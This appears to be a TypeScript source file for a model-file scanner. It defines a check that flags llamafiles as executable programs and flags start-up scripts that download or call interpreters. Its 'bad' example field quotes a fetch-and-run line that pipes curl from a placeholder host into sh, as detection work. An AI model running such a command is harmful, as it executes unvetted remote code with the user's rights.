import { defineCheck } from '../../../core/check.ts';
import { excerpt } from '../../../core/excerpt.ts';
import { programModel } from '../../../formats/llamafile/program-model.ts';

const AML_T0011 = {
  id: 'AML.T0011',
  url: 'https://atlas.mitre.org/techniques/AML.T0011',
} as const;
const CWE_829 = { id: 'CWE-829', url: 'https://cwe.mitre.org/data/definitions/829.html' } as const;
const SHOWN_CHARACTERS = 200;

export default defineCheck({
  id: 'program-model',
  version: 1,
  title: 'Whether a model is a program, and what its script does before the model is there',
  needs: [programModel],
  rules: {
    'self-running-model': {
      title: 'Model that is a program',
      severity: 'low',
      message: '{count} bytes of a program ({program}) stand in front of the model',
      why: 'A llamafile is started, not loaded: its machine code runs with your rights. The model inside was examined, the machine code was not, and nothing here says that it is the program its name promises.',
      fix: 'Start it only when you trust its publisher as you trust any program; compare its digest with the published one. The model alone can be had without the program: unzip model.llamafile "*.gguf".',
      references: [
        AML_T0011,
        { id: 'llamafile', url: 'https://github.com/Mozilla-Ocho/llamafile' },
      ],
      example: {
        bad: 'model.llamafile from an unknown account',
        good: 'model.gguf for a llama.cpp of your own',
      },
    },
    'script-command': {
      title: 'Start-up script that reaches outside',
      severity: 'high',
      message: 'the script in front of the program runs {command}',
      why: 'The first bytes of such a file are a shell script that only unpacks and starts the program. Cosmopolitan’s own script downloads nothing and calls no interpreter: this one was changed.',
      fix: 'Do not start the file. Report it to whoever hosts it, and take the model as GGUF from its publisher.',
      references: [
        CWE_829,
        AML_T0011,
        {
          id: 'APE specification',
          url: 'https://github.com/jart/cosmopolitan/blob/master/ape/specification.md',
        },
      ],
      example: { bad: 'curl https://example.invalid/x | sh', good: 'exec ape "$o" "$@"' },
    },
  },
  run: (inputs, { report }) => {
    for (const { path, value } of inputs['program-model']) {
      const { program, programBytes } = value;
      report('self-running-model', { path, offset: 0 }, { count: programBytes, program });
      for (const { line, offset } of value.commands) {
        const command = excerpt(line, SHOWN_CHARACTERS);
        report('script-command', { path, offset }, { command }, { evidence: [line] });
      }
    }
  },
});
